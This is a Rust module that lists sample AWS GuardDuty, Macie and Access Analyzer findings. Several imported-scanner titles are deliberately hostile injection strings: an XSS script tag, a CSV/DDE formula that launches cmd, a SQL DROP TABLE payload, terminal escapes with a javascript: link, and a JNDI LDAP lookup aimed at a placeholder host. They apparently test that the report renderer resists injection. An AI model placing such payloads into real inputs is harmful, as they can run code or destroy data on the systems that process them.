//! What GuardDuty, Macie, IAM Access Analyzer and the organisation's own scanner report.
//!
//! The scanner's findings are where hostile text comes from: titles that try to be markup, formulas, queries or
//! terminal commands, as anybody with BatchImportFindings may write them.

use super::kinds::Kind;
use super::labels::{Product, Severity};

/// One thing a product can report.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Detection {
    pub(crate) product: Product,
    pub(crate) severity: Severity,
    /// `Types[]` in ASFF's namespace/category/classifier form.
    pub(crate) types: &'static [&'static str],
    /// Kinds of the resources involved; the first is the one the finding is about.
    pub(crate) kinds: &'static [Kind],
    pub(crate) title: &'static str,
}

const fn detection(
    product: Product,
    severity: Severity,
    types: &'static [&'static str],
    kinds: &'static [Kind],
    title: &'static str,
) -> Detection {
    Detection { product, severity, types, kinds, title }
}

use Kind::{Ec2Instance, Ec2NetworkInterface, IamAccessKey, IamRole, KmsKey, LambdaFunction, S3Bucket, S3Object};
use Product::{AccessAnalyzer, GuardDuty, Import, Macie};
use Severity::{Critical, High, Informational, Low, Medium};

/// All detections, product by product.
#[rustfmt::skip]
pub(crate) const DETECTIONS: &[Detection] = &[
    detection(GuardDuty, Medium, &["TTPs/Initial Access/UnauthorizedAccess:EC2-SSHBruteForce"], &[Ec2Instance, Ec2NetworkInterface], "The EC2 instance is performing SSH brute force attacks against a remote host."),
    detection(GuardDuty, High, &["TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS"], &[Ec2Instance], "The EC2 instance is querying a domain name associated with a known command and control server."),
    detection(GuardDuty, High, &["Effects/Resource Consumption/CryptoCurrency:EC2-BitcoinTool.B!DNS"], &[Ec2Instance], "The EC2 instance is querying a domain name that is associated with cryptocurrency activity."),
    detection(GuardDuty, Low, &["TTPs/Discovery/Recon:EC2-PortProbeUnprotectedPort"], &[Ec2Instance], "An unprotected port on the EC2 instance is being probed."),
    detection(GuardDuty, Medium, &["TTPs/Discovery/Recon:IAMUser-MaliciousIPCaller"], &[IamAccessKey, IamRole], "A discovery API was invoked from a known malicious IP address."),
    detection(GuardDuty, High, &["TTPs/UnauthorizedAccess:IAMUser-InstanceCredentialExfiltration.OutsideAWS"], &[IamAccessKey, Ec2Instance], "Credentials for the EC2 instance role were used from an external IP address."),
    detection(GuardDuty, Low, &["TTPs/Policy:IAMUser-RootCredentialUsage"], &[IamAccessKey], "An API was invoked using root credentials."),
    detection(GuardDuty, High, &["Effects/Data Exfiltration/Exfiltration:S3-AnomalousBehavior"], &[IamAccessKey, S3Bucket], "An IAM entity read an unusual amount of data from an S3 bucket."),
    detection(GuardDuty, Critical, &["TTPs/AttackSequence:IAM-CompromisedCredentials"], &[IamAccessKey, IamRole, S3Bucket], "A sequence of actions suggests that credentials are compromised."),
    detection(GuardDuty, Medium, &["Unusual Behaviors/User/PrivilegeEscalation:IAMUser-AnomalousBehavior"], &[IamRole, IamAccessKey], "An API commonly used in privilege escalation was invoked in an unusual way."),
    detection(Macie, High, &["Sensitive Data Identifications/PII/SensitiveData:S3Object-Personal"], &[S3Bucket, S3Object], "The S3 object contains personal information."),
    detection(Macie, High, &["Sensitive Data Identifications/Financial/SensitiveData:S3Object-Financial"], &[S3Bucket, S3Object], "The S3 object contains financial information."),
    detection(Macie, Medium, &["Sensitive Data Identifications/Passwords/SensitiveData:S3Object-Credentials"], &[S3Bucket, S3Object], "The S3 object contains credentials data."),
    detection(Macie, Medium, &["Software and Configuration Checks/AWS Security Best Practices/Policy:IAMUser-S3BucketEncryptionDisabled"], &[S3Bucket], "Default encryption is disabled for the S3 bucket."),
    detection(AccessAnalyzer, High, &["Software and Configuration Checks/AWS Security Best Practices/External Access Granted"], &[S3Bucket], "AwsS3Bucket allows public access"),
    detection(AccessAnalyzer, Medium, &["Software and Configuration Checks/AWS Security Best Practices/External Access Granted"], &[IamRole], "AwsIamRole allows cross-account access"),
    detection(AccessAnalyzer, Low, &["Software and Configuration Checks/AWS Security Best Practices/External Access Granted"], &[KmsKey], "AwsKmsKey allows cross-account access"),
    detection(AccessAnalyzer, Medium, &["Software and Configuration Checks/AWS Security Best Practices/External Access Granted"], &[LambdaFunction], "AwsLambdaFunction allows public access"),
    detection(Import, Medium, &["Software and Configuration Checks/Vendor/Review"], &[Ec2Instance, S3Bucket], "<script>alert('posture')</script><img src=x onerror=alert(1)>"),
    detection(Import, High, &["Software and Configuration Checks/Vendor/Review", "Effects/Data Exposure"], &[S3Bucket, IamRole, KmsKey], "=cmd|' /C calc'!A0"),
    detection(Import, Low, &["Software and Configuration Checks/Vendor/Review"], &[LambdaFunction], "Robert'); DROP TABLE findings;-- \"quoted\" `ticked` \\ back"),
    detection(Import, Medium, &["TTPs/Vendor/Ünïcode"], &[Ec2Instance], "Schlüssel für «Zahlung» offen – 鍵が公開 🔑 \u{202e}gnirts desrever"),
    detection(Import, Critical, &["Effects/Vendor/Terminal"], &[Ec2Instance, Ec2NetworkInterface], "\u{1b}[31mred\u{1b}[0m\ttab\nnew line [link](javascript:alert(1)) @channel"),
    detection(Import, Informational, &["Software and Configuration Checks/Vendor/Review"], &[IamRole], "+1-800 ${jndi:ldap://example.com/a} {{constructor}} %00 $__timeFilter(created_at)"),
];

/// Returns where the detections of `product` are in [`DETECTIONS`].
pub(crate) fn of_product(product: Product) -> std::ops::Range<usize> {
    let first = DETECTIONS.iter().position(|d| d.product == product).unwrap_or_default();
    let count = DETECTIONS.iter().filter(|d| d.product == product).count();
    first..first + count
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_detections_of_a_product_stand_together() {
        for product in [GuardDuty, Macie, AccessAnalyzer, Import] {
            let range = of_product(product);
            assert!(!range.is_empty());
            assert!(DETECTIONS[range].iter().all(|d| d.product == product), "{product:?}");
        }
    }
}
